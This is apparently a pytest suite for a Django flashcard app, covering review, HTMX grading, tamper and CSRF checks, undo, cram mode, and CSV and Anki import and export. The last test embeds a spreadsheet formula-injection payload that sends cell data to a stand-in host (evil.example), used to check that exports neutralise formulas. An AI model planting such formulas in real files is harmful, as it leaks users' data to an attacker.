import csv
import io
import sqlite3
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from studyapp.cards.models import Card, CardState, ReviewLog

pytestmark = pytest.mark.django_db
HTMX = {"HX-Request": "true"}


def shown(client, **params):
    response = client.get(reverse("cards:review"), params)
    assert response.status_code == 200
    return response


def grade_data(response, rating):
    context = response.context
    data = {
        "card": context["found"].card.pk,
        "key": context["key"],
        "rating": rating,
        "shown_at": context["shown_at"],
    }
    if context["topic"]:
        data["topic"] = context["topic"].slug
    return data


def test_review_needs_an_account(client):
    response = client.get("/review/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_review_page_shows_the_front_counts_and_interval_buttons(client, learner, small_deck):
    client.force_login(learner)
    response = shown(client)
    body = response.content.decode()
    assert "<p>Front 0</p>" in body
    assert '<div id="answer" class="card-answer" hidden>' in body
    assert 'data-count="new">5<' in body
    intervals = [button["interval"] for button in response.context["buttons"]]
    assert intervals[0] == "1m" and intervals[2] == "10m"
    assert ">10m</span>" in body


def test_show_answer_works_without_javascript(client, learner, small_deck):
    client.force_login(learner)
    body = shown(client, show=1).content.decode()
    assert '<div id="answer" class="card-answer" >' in body
    assert 'id="show-answer"' not in body


def test_grading_with_htmx_swaps_in_the_next_card(client, learner, small_deck):
    client.force_login(learner)
    page = shown(client)
    response = client.post(reverse("cards:grade"), grade_data(page, 3), headers=HTMX)
    assert response.status_code == 200
    body = response.content.decode()
    assert body.lstrip().startswith('<section id="panel"')
    assert "<p>Front 1</p>" in body
    assert ReviewLog.objects.filter(user=learner).count() == 1


def test_grading_without_javascript_redirects_back(client, learner, small_deck):
    client.force_login(learner)
    page = shown(client)
    response = client.post(reverse("cards:grade"), grade_data(page, 4))
    assert response.status_code == 302
    assert response["Location"] == "/review/"
    assert CardState.objects.get(user=learner, card=small_deck[0]).state == CardState.State.REVIEW


def test_double_submit_records_one_review(client, learner, small_deck):
    client.force_login(learner)
    data = grade_data(shown(client), 3)
    client.post(reverse("cards:grade"), data, headers=HTMX)
    second = client.post(reverse("cards:grade"), data, headers=HTMX)
    assert second.status_code == 200
    assert ReviewLog.objects.filter(user=learner).count() == 1


@pytest.mark.parametrize(
    ("change", "status"),
    [
        ({"rating": "9"}, 400),
        ({"rating": "good"}, 400),
        ({"card": "999999"}, 400),
        ({"card": "-1"}, 400),
        ({"key": "1:99"}, 409),
    ],
)
def test_tampered_grade_form_gets_a_4xx_and_records_nothing(
    client, learner, small_deck, change, status
):
    client.force_login(learner)
    data = {**grade_data(shown(client), 3), **change}
    response = client.post(reverse("cards:grade"), data, headers=HTMX)
    assert response.status_code == status
    assert 'role="alert"' in response.content.decode()
    assert not ReviewLog.objects.filter(user=learner).exists()


def test_another_learners_imported_card_cannot_be_graded(
    client, learner, other_learner, small_deck
):
    private = Card.objects.create(
        key="u-private",
        note_key="u-private",
        kind="basic",
        topic=small_deck[0].topic,
        owner=other_learner,
        front_text="f",
        back_text="b",
        front_html="f",
        back_html="b",
    )
    client.force_login(learner)
    response = client.post(
        reverse("cards:grade"), {"card": private.pk, "key": f"{private.pk}:0", "rating": 3}
    )
    assert response.status_code == 400
    assert not ReviewLog.objects.exists()


def test_grade_requires_post_and_csrf(learner, small_deck):
    client = Client(enforce_csrf_checks=True)
    client.force_login(learner)
    assert client.get(reverse("cards:grade")).status_code == 405
    assert (
        client.post(
            reverse("cards:grade"), {"card": small_deck[0].pk, "key": "x", "rating": 3}
        ).status_code
        == 403
    )


def test_undo_brings_the_card_back(client, learner, small_deck):
    client.force_login(learner)
    client.post(reverse("cards:grade"), grade_data(shown(client), 4), headers=HTMX)
    response = client.post(reverse("cards:undo"), headers=HTMX)
    assert response.status_code == 200
    assert "<p>Front 0</p>" in response.content.decode()
    assert not ReviewLog.objects.exists()
    assert client.post(reverse("cards:undo"), headers=HTMX).status_code == 409


def test_unknown_topic_filter_is_a_404(client, learner):
    client.force_login(learner)
    assert client.get("/review/", {"topic": "nope"}).status_code == 404


def test_next_card_query_count_does_not_grow_with_the_deck(
    client, learner, make_cards, django_assert_max_num_queries
):
    Card.objects.update(retired=True)
    client.force_login(learner)
    make_cards(3)
    with django_assert_max_num_queries(16) as small:
        shown(client)
    make_cards(300, prefix="many")
    with django_assert_max_num_queries(len(small.captured_queries)):
        shown(client)


def test_cram_goes_through_a_topic_without_touching_the_schedule(client, learner, small_deck):
    client.force_login(learner)
    slug = small_deck[0].topic.slug
    page = client.get(reverse("cards:cram"), {"topic": slug})
    assert page.status_code == 200
    seen = set()
    for _ in range(5):
        card = page.context["card"]
        seen.add(card.pk)
        graded = client.post(
            reverse("cards:cram_grade"), {"card": card.pk, "rating": 3, "topic": slug}
        )
        assert graded.status_code == 302
        page = client.get(graded["Location"])
    assert seen == {card.pk for card in small_deck}
    assert page.context["card"] is None
    assert not ReviewLog.objects.exists() and not CardState.objects.exists()


def test_cram_again_puts_the_card_back_in_the_queue(client, learner, small_deck):
    client.force_login(learner)
    page = client.get(reverse("cards:cram"))
    first = page.context["card"].pk
    client.post(reverse("cards:cram_grade"), {"card": first, "rating": 1})
    page = client.get(reverse("cards:cram"))
    assert page.context["left"] == 5
    assert page.context["card"].pk != first
    response = client.post(reverse("cards:cram_grade"), {"card": first, "rating": 3}, headers=HTMX)
    assert response.status_code == 409


def test_settings_page_validates_retention(client, learner):
    client.force_login(learner)
    bad = client.post(
        reverse("cards:settings"),
        {"desired_retention": "0.5", "new_per_day": 20, "reviews_per_day": 200},
    )
    assert bad.status_code == 400
    good = client.post(
        reverse("cards:settings"),
        {"desired_retention": "0.85", "new_per_day": 10, "reviews_per_day": 100},
    )
    assert good.status_code == 302
    assert learner.card_settings.desired_retention == 0.85


def test_export_csv_lists_the_deck(client, learner, small_deck):
    client.force_login(learner)
    response = client.get(reverse("cards:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["id", "topic", "kind", "front", "back", "tags"]
    assert rows[1][:5] == ["t-0", "sqs-message-visibility-timeout", "basic", "Front 0", "Back 0"]
    assert len(rows) == 6


def test_export_apkg_is_a_real_anki_package(client, learner, small_deck):
    client.force_login(learner)
    response = client.get(reverse("cards:export_apkg"))
    assert response.status_code == 200
    with tempfile.TemporaryDirectory() as directory:
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        archive.extract("collection.anki2", directory)
        database = sqlite3.connect(Path(directory) / "collection.anki2")
        fields = [row[0] for row in database.execute("select flds from notes order by id")]
        database.close()
    assert len(fields) == 5
    assert fields[0].split("\x1f")[:2] == ["<p>Front 0</p>", "<p>Back 0</p>"]


def test_import_csv_adds_private_cards_once(client, learner, other_learner, small_deck):
    client.force_login(learner)
    text = "front,back,topic,tags\nWhat is SQS?,A queue,sqs,mine\nWhat is SNS?,Pub/sub,,\n"
    upload = lambda: io.BytesIO(text.encode())  # noqa: E731
    for _ in range(2):
        file = upload()
        file.name = "cards.csv"
        response = client.post(reverse("cards:import_csv"), {"file": file})
        assert response.status_code == 302
    mine = Card.objects.filter(owner=learner)
    assert mine.count() == 2
    assert mine.get(front_text="What is SQS?").topic.slug == "sqs"
    assert not Card.objects.visible_to(other_learner).filter(owner=learner).exists()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("question,answer\nx,y\n", "must name the columns"),
        ("front,back\n,y\n", "line 2: front and back must not be empty"),
        ("front,back,topic\nx,y,nope\n", "line 2: unknown topic nope"),
        ("front,back\n", "line 2: the file has no cards"),
    ],
)
def test_bad_import_is_a_400_with_the_line(client, learner, text, message):
    client.force_login(learner)
    file = io.BytesIO(text.encode())
    file.name = "cards.csv"
    response = client.post(reverse("cards:import_csv"), {"file": file})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Card.objects.filter(owner=learner).exists()


def test_import_rejects_non_utf8(client, learner):
    client.force_login(learner)
    file = io.BytesIO("front,back\ncafé,x\n".encode("latin-1"))
    file.name = "cards.csv"
    response = client.post(reverse("cards:import_csv"), {"file": file})
    assert response.status_code == 400
    assert "not UTF-8" in response.content.decode()


def test_today_panel_counts_what_is_due(client, learner, small_deck):
    client.force_login(learner)
    body = client.get(reverse("cards:today")).content.decode()
    assert "0 due, 0 in learning, 5 new." in body
    assert 'hx-get="/review/today/"' in client.get("/").content.decode()


def test_today_panel_invites_visitors_to_sign_up(client):
    body = client.get(reverse("cards:today")).content.decode()
    assert 'href="/accounts/signup/"' in body


def test_a_card_never_shown_cannot_be_graded(client, learner, small_deck):
    client.force_login(learner)
    never_shown = small_deck[-1]
    for key in (f"{never_shown.pk}:0", f"{never_shown.pk}:0:{'0' * 32}"):
        response = client.post(
            reverse("cards:grade"), {"card": never_shown.pk, "key": key, "rating": 4}
        )
        assert response.status_code == 409
    assert not ReviewLog.objects.exists()
    assert not CardState.objects.exists()


def test_card_export_neutralises_spreadsheet_formulas(client, learner):
    from studyapp.notes.models import Topic

    Card.objects.create(
        key="u-formula",
        note_key="u-formula",
        kind="basic",
        topic=Topic.objects.first(),
        owner=learner,
        front_text='=HYPERLINK("http://evil.example/?"&A1,"click")',
        back_text="+1",
        front_html="",
        back_html="",
    )
    client.force_login(learner)
    rows = list(csv.reader(io.StringIO(client.get(reverse("cards:export_csv")).content.decode())))
    mine = next(row for row in rows if row[0] == "u-formula")
    assert mine[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert mine[4] == "'+1"
